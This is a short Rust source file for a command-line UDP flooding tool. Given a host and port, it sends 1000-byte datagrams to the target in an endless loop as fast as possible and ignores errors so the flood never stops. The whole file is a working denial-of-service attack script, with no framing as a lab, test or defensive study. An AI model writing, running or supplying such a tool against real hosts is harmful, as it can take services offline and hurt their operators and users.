//! `udp-flood HOST PORT`: sends datagrams for ever, as quickly as it can, and never reads.

use std::net::{Ipv4Addr, UdpSocket};

fn main() {
    let mut words = std::env::args().skip(1);
    let host = words.next().expect("HOST");
    let port: u16 = words.next().and_then(|port| port.parse().ok()).expect("PORT");
    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0)).expect("a socket");
    println!("flooding");
    loop {
        // A refusal is told once by the error; the next one is sent all the same.
        let _ = socket.send_to(&[0; 1000], (host.as_str(), port));
    }
}
